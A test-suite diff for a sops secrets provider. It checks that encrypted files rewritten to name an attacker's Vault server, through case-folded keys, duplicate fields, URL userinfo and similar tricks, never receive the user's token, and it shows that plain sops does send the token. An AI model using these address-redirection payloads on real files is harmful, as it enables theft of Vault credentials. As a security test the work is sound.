@@ -1,4 +1,4 @@
-import { spawnSync } from 'node:child_process';
+import { spawn, spawnSync } from 'node:child_process';
 import {
   chmodSync,
   copyFileSync,
@@ -9,8 +9,11 @@ import {
   rmSync,
   writeFileSync,
 } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { isSecretError } from '@keyfall/core';
 import {
   assertNoLeak,
   type MotoServer,
@@ -18,7 +21,7 @@ import {
   startVaultServer,
   type VaultServer,
 } from '@keyfall/testkit';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { decryptSopsFile, sopsProvider } from '../src/index.ts';
 import {
   fixturePath,
@@ -278,5 +281,147 @@ describe("Vault's transit engine, through the real sops", () => {
     const error = await decryptSopsFile(path, { environment: refused }).catch((thrown) => thrown);
     expect(error).toMatchObject({ code: 'ERR_SECRET_UNAUTHENTICATED' });
     assertNoLeak(['changed-canary', 'refused-token-canary', server.token], error);
+  });
+
+  describe('and a file of a stranger', () => {
+    const token = 'hvs.the-users-token-canary';
+    let received: string[];
+    let thief: Server;
+    let evil: string;
+    let home: string;
+    beforeAll(async () => {
+      thief = createServer((request, response) => {
+        received.push(`${request.url} ${JSON.stringify(request.headers)}`);
+        response.end('{}');
+      });
+      await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
+      evil = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
+      home = mkdtempSync(join(folder, 'home-'));
+      writeFileSync(join(home, '.vault-token'), token);
+    });
+    afterAll(() => thief.close());
+    beforeEach(() => {
+      received = [];
+    });
+
+    /** A file of the real sops for the real server, changed as text. */
+    const stolen = (name: string, change: (text: string) => string): string => {
+      const path = join(folder, name);
+      const uri = `${server.address}/v1/transit/keys/sops`;
+      const args = ['encrypt', '--hc-vault-transit', uri, '--filename-override', path];
+      const input = name.endsWith('.json')
+        ? '{"password":"x"}'
+        : name.endsWith('.env')
+          ? 'A=x\n'
+          : 'a: x\n';
+      const made = sops(args, { input, env: environment });
+      expect(made.status).toBe(0);
+      writeFileSync(path, change(made.output));
+      return path;
+    };
+    const all = (text: string) => text.replaceAll(server.address, evil);
+
+    test.each([
+      ['stolen.yaml', all],
+      ['stolen.json', all],
+      ['stolen.env', all],
+      [
+        'groups.yaml',
+        (text: string) => all(text).replace(/^( {4})hc_vault:/m, '$1key_groups:\n    - hc_vault:'),
+      ],
+      // Go takes each of these for vault_address, and the last one counts
+      [
+        'case.json',
+        (text: string) =>
+          text.replace(/("vault_address": "[^"]+")/, `$1, "VAULT_ADDRESS": "${evil}"`),
+      ],
+      [
+        'folded.json',
+        (text: string) =>
+          text.replace(/("vault_address": "[^"]+")/, `$1, "vault_addre\u017f\u017f": "${evil}"`),
+      ],
+      ['field.json', (text: string) => all(text).replace('"hc_vault"', '"HC_VAULT"')],
+      [
+        'userinfo.yaml',
+        (text: string) => text.replaceAll(server.address, `${server.address}@${evil.slice(7)}`),
+      ],
+      [
+        'port.yaml',
+        (text: string) => text.replaceAll(server.address, evil.replace('127.0.0.1', 'localhost')),
+      ],
+    ])('%s sends no token anywhere', async (name, change) => {
+      const path = stolen(name, change);
+      for (const given of [
+        { VAULT_TOKEN: token, VAULT_ADDR: server.address },
+        { VAULT_TOKEN: token },
+        { HOME: home },
+      ]) {
+        const own = { ...nowhere, PATH: toolPath, ...given };
+        const error = await decryptSopsFile(path, { environment: own }).catch((thrown) => thrown);
+        expect(isSecretError(error)).toBe(true);
+        expect(['ERR_SECRET_CONFIG', 'ERR_SECRET_INVALID']).toContain(error.code);
+        assertNoLeak([token], error);
+        const entries = new Map([['added', 'x']]);
+        const write = sopsProvider({ path, environment: own }).write?.({ entries }, context());
+        await expect(write).rejects.toMatchObject({ code: error.code });
+      }
+      expect(received).toEqual([]);
+    });
+
+    test('is opened with a word', async () => {
+      const path = stolen('word.yaml', (text) => text);
+      const { VAULT_ADDR: _, ...withoutAddress } = environment;
+      await expect(decryptSopsFile(path, { environment: withoutAddress })).rejects.toMatchObject({
+        code: 'ERR_SECRET_CONFIG',
+        message: expect.stringContaining(
+          `names the Vault ${server.address}, which is not configured`,
+        ),
+        hint: expect.stringContaining('keyServers'),
+      });
+      const keyServers = [`${server.address}/`];
+      expect(
+        await decryptSopsFile(path, { environment: withoutAddress, keyServers }),
+      ).toMatchObject({ a: 'x' });
+    });
+
+    test('by a real sops would have had the token', () => {
+      // what is kept from happening does happen otherwise: a listener that hears nothing proves nothing
+      const path = stolen('proof.yaml', all);
+      return new Promise<void>((resolve) => {
+        const child = spawn('sops', ['decrypt', path], {
+          env: { ...nowhere, PATH: toolPath, VAULT_TOKEN: token },
+        });
+        child.once('close', () => {
+          expect(received.join()).toContain(token);
+          resolve();
+        });
+      });
+    });
+
+    test('gets sops none of the variables that it has no use for', async () => {
+      const bin = mkdtempSync(join(folder, 'bin-'));
+      const log = join(bin, 'environment');
+      writeFileSync(join(bin, 'sops'), `#!/bin/sh\nenv >'${log}'\nexit 128\n`, { mode: 0o755 });
+      const secrets = {
+        VAULT_TOKEN: 'vault-canary',
+        AWS_SECRET_ACCESS_KEY: 'aws-canary',
+        AZURE_CLIENT_SECRET: 'azure-canary',
+        GOOGLE_APPLICATION_CREDENTIALS: 'google-canary',
+        GNUPGHOME: 'gpg-canary',
+        DATABASE_URL: 'database-canary',
+        NPM_TOKEN: 'npm-canary',
+        VAULT_ADDR: server.address,
+      };
+      const own = { ...nowhere, PATH: `${bin}:${process.env['PATH']}`, ...secrets };
+      const seen = async (path: string) => {
+        await decryptSopsFile(path, { environment: own }).catch(() => {});
+        return Object.values(secrets).filter((value) => readFileSync(log, 'utf8').includes(value));
+      };
+      expect(await seen(stolen('own.yaml', (text) => text))).toEqual([
+        'vault-canary',
+        server.address,
+      ]);
+      expect(await seen(fixturePath('pgp.yaml'))).toEqual(['gpg-canary']);
+    });
   });
 });
